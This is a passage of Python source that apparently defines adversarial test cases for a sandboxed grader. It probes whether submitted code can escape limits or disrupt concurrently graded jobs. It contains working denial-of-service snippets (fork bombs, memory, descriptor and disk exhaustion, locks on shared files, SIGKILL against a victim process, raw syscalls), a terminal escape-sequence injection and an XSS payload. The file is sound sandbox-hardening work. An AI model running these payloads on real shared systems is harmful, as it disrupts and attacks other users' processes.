answers("many-names", "exceptions of a hundred thousand classes", "None", error=["ValueError"] * 2000)
answers(
    "names-that-are-commands",
    "an error whose name a terminal would obey",
    "None",
    error=["\x1b]0;owned\x07"],
    message="\x9b31m",
)
answers("wrong-containers", "mappings without pairs, and numbers for lists", "{'dict': 5}")
attack(
    "long-name-of-an-exception",
    GATE,
    "an exception whose name has fifteen million characters, in a cell",
    "raise type('N' * 15_000_000, (Exception,), {})('m' * 1_000_000)",
    honest=True,
    ours_only=True,
)
attack(
    "errors-of-many-classes",
    GATE,
    "an exception of two thousand classes, when asked",
    """
kind = Exception
for k in range(400):
    kind = type('E' * 5000 + str(k), (kind,), {})
def double(X):
    raise kind('x' * 10_000_000)
row_means = double
""",
    ours_only=True,
)
transport(
    "pictures-that-are-none",
    "a picture that is a script, and one that is not base64",
    """
outputs = [{'output_type': 'display_data', 'data': {'image/png': '"><script>alert(1)</script>'}, 'metadata': {}},
           {'output_type': 'display_data', 'data': {'image/jpeg': '/9j/%%%'}, 'metadata': {}}]
channel.sendall(frame({'id': request()['id'], 'outputs': outputs}))
""",
    honest=True,
)

# --- Neighbours: what is shared with whoever is graded at the same time ----------------------------------------

FCNTL = """
import fcntl, numpy
file = open(numpy.__file__)
def tries(command, value):
    try:
        fcntl.fcntl(file, command, value)
        print('BROKEN-OUT fcntl', command)
    except OSError:
        pass
"""
NEIGHBOURS = "neighbours"
attack(
    "lease",
    NEIGHBOURS,
    "takes leases on files that everybody imports, so that others wait",
    FCNTL + "tries(1024, fcntl.F_RDLCK)",
    honest=True,
    ours_only=True,
)
attack(
    "notices",
    NEIGHBOURS,
    "asks for notices of what happens in a folder",
    FCNTL + "tries(1026, 1)",
    honest=True,
    ours_only=True,
)
attack(
    "owner-of-a-file",
    NEIGHBOURS,
    "has the kernel signal another process",
    FCNTL + "tries(8, @VICTIM@)\ntries(10, 9)",
    honest=True,
    ours_only=True,
)
attack(
    "new-system-calls",
    NEIGHBOURS,
    "uses system calls that are newer than any list of forbidden ones",
    """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for number in range(463, 480):
    if libc.syscall(number, -100, b'.', 0, 0, 0, 0) >= 0 or ctypes.get_errno() != 38:
        print('BROKEN-OUT call', number)
""",
    honest=True,
    ours_only=True,
)

# What goes on for as long as it is let, beside honest work; `until` is when a cell of the tests has to end.
MEANWHILE = """
import ctypes, os, threading, time
libc, until = ctypes.CDLL(None, use_errno=True), time.monotonic() + 3
def call(number, *arguments):  # numbers are those of x86_64
    return libc.syscall(*map(ctypes.c_long, (number, *arguments))) if os.uname().machine == 'x86_64' else -1
def meanwhile(act):
    while time.monotonic() < until:
        try:
            if act() is False:
                break
        except (OSError, MemoryError, RuntimeError, ValueError):
            time.sleep(0.001)
"""


def neighbour(name: str, tries: str, code: str, **options) -> None:
    """Add an attack on whoever is graded at the same time."""
    attack(name, NEIGHBOURS, tries, MEANWHILE + code, honest=True, ours_only=True, **options)


neighbour(
    "lease-by-another-number",
    "asks for leases and notices with bits set that the kernel does not read",
    """
import numpy
file = open(numpy.__file__)
for command in (1024, 1026, 8, 10):
    if call(72, file.fileno(), command | 1 << 32, 0) >= 0:
        print('BROKEN-OUT fcntl', command)
""",
)
neighbour(
    "busy-threads",
    "computes in as many threads as it gets, without Python's lock, and ignores interrupts",
    """
import hashlib, signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
threading.stack_size(1 << 16)
for _ in range(200):
    try:
        threading.Thread(target=meanwhile, args=(lambda: hashlib.sha256(bytes(1 << 22)),), daemon=True).start()
    except RuntimeError:
        break
else:
    print('BROKEN-OUT 200 threads')
meanwhile(lambda: hashlib.sha256(bytes(1 << 22)))
""",
)
neighbour(
    "priorities",
    "asks to run before everybody else, and on every processor",
    """
for name, act in {
    'nice': lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
    'real time': lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)),
    'processors': lambda: os.sched_setaffinity(0, range(os.cpu_count())),
    'disk': lambda: call(251, 1, 0, 1 << 13) and int('refused'),
}.items():
    try:
        act()
        print('BROKEN-OUT', name)
    except (OSError, ValueError):
        pass
""",
)
neighbour(
    "watches",
    "takes all of a user's watches of files",
    """
for flags in (0, 0x800):
    if libc.inotify_init1(flags) >= 0:
        print('BROKEN-OUT inotify')
if libc.fanotify_init(0, 0) >= 0:
    print('BROKEN-OUT fanotify')
""",
)
neighbour(
    "waiting-lists",
    "fills epoll's lists with each other",
    """
import select
lists = [select.epoll() for _ in range(60)]
for a in lists:
    for b in lists:
        try:
            a.register(b, select.EPOLLIN | select.EPOLLET)
        except OSError:
            pass
meanwhile(lambda: [one.poll(0) for one in lists] and None)
""",
)
neighbour(
    "signals",
    "sends itself signals at the pace of the timer, and others to everybody",
    """
import signal
count = 0
def handle(*_):
    global count
    count += 1
signal.signal(signal.SIGALRM, handle)
signal.setitimer(signal.ITIMER_REAL, 1e-6, 1e-6)
for pid in (-1, 0, 1, @VICTIM@):
    for act in (lambda: os.kill(pid, signal.SIGKILL), lambda: call(129, pid, 34, 0)):
        try:
            act()
        except OSError:
            pass
meanwhile(lambda: None)
""",
)
neighbour(
    "timers",
    "makes the kernel's timers without end",
    """
made = ctypes.c_void_p()
for _ in range(10_000):
    if libc.timer_create(1, None, ctypes.byref(made)) >= 0 or libc.timerfd_create(1, 0) >= 0:
        print('BROKEN-OUT timer')
        break
""",
)
neighbour(
    "resident-memory",
    "writes to all the memory that it gets, and holds it",
    """
held = []
def take():
    held.append(b'x' * (32 << 20))
    if len(held) > 40:
        print('BROKEN-OUT 1.3 GB')
        return False
meanwhile(take)
""",
)
neighbour(
    "memory-beside-the-limit",
    "takes memory that no limit of an address space counts",
    """
def refused(result):
    if result < 0:
        raise OSError(ctypes.get_errno())
for name, act in {
    'memfd': lambda: os.memfd_create('x'), 'shm': lambda: open('/dev/shm/x', 'wb'),
    'shmget': lambda: refused(libc.shmget(0, 1 << 28, 0o1600)),
    'queue': lambda: refused(libc.mq_open(b'/x', 66, 0o600, None)),
    'secret': lambda: refused(call(447, 0)), 'huge': lambda: refused(call(9, 0, 1 << 21, 3, 0x40022, -1, 0)),
}.items():
    try:
        act()
        print('BROKEN-OUT', name)
    except OSError:
        pass
""",
)
neighbour(
    "process-numbers",
    "starts processes until there are no numbers left",
    """
def start():
    if os.fork() == 0:
        time.sleep(5)
        os._exit(0)
    print('BROKEN-OUT a process')
meanwhile(start)
""",
)
neighbour(
    "open-files",
    "opens pipes and sockets without end, and fills them",
    """
import socket
held = []
def fill(descriptor):
    os.set_blocking(descriptor, False)
    try:
        while os.write(descriptor, bytes(1 << 16)):
            pass
    except OSError:
        pass
def take():
    held.append(os.pipe() if len(held) % 2 else [end.detach() for end in socket.socketpair()])
    fill(held[-1][1])
    if len(held) > 1000:
        print('BROKEN-OUT 2000 descriptors')
        return False
meanwhile(take)
""",
)
neighbour(
    "disk",
    "writes, grows and syncs files as fast as it can",
    """
count = 0
def write():
    global count
    count += 1
    with open(f'part{count % 500}', 'ab') as file:
        file.write(bytes(1 << 20))
        os.fsync(file.fileno())
meanwhile(write)
""",
)
neighbour(
    "many-files",
    "makes files and folders without end",
    """
count = 0
def make():
    global count
    count += 1
    os.makedirs(f'd{count % 100}', exist_ok=True)
    open(f'd{count % 100}/{count}', 'w').close()
meanwhile(make)
""",
)
neighbour(
    "locks",
    "locks the files that everybody imports",
    """
import fcntl, numpy
file = open(numpy.__file__)
try:
    fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    print('BROKEN-OUT lock')
except OSError:
    pass
def lock(k=iter(range(10 ** 9))):
    fcntl.lockf(file, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, 2 * next(k))
meanwhile(lock)
""",
)
neighbour(
    "flush-the-system",
    "has the machine write all it holds, again and again",
    "\nif libc.syncfs(0) >= 0:\n    print('BROKEN-OUT syncfs')\nmeanwhile(lambda: libc.sync())",
)
neighbour(
    "queues-of-the-kernel",
    "takes what the whole machine has a number of: asynchronous I/O, keys, io_uring",
    """
buffer = ctypes.create_string_buffer(256)
room, text = ctypes.addressof(buffer), ctypes.cast(ctypes.c_char_p(b'user'), ctypes.c_void_p).value
for name, act in {
    'aio': lambda: call(206, 65536, room), 'uring': lambda: call(425, 4096, room),
    'key': lambda: call(248, text, text, room, 200, -3), 'perf': lambda: call(298, room, 0, -1, -1, 0),
    'userfaultfd': lambda: call(323, 0), 'landlock': lambda: call(444, 0, 0, 1),
}.items():
    if act() >= 0:
        print('BROKEN-OUT', name)
""",
)
neighbour(
    "yield-and-wake",
    "gives way and wakes threads without end",
    """
event = threading.Event()
for _ in range(8):
    threading.Thread(target=meanwhile, args=(lambda: os.sched_yield(),), daemon=True).start()
meanwhile(lambda: (event.set(), event.clear(), os.sched_yield()) and None)
""",
)


def _tiny_objects(notebook: dict) -> bytes:
    notebook["metadata"]["tiny"] = 0
    return json.dumps(notebook).replace('"tiny": 0', '"tiny": [' + "[]," * 10_000_000 + "[]]").encode()


attack(
    "tiny-objects",
    DAMAGED,
    "thirty megabytes of empty lists, which take twenty times as much",
    STUB,
    change=_tiny_objects,
    ours_only=True,
)
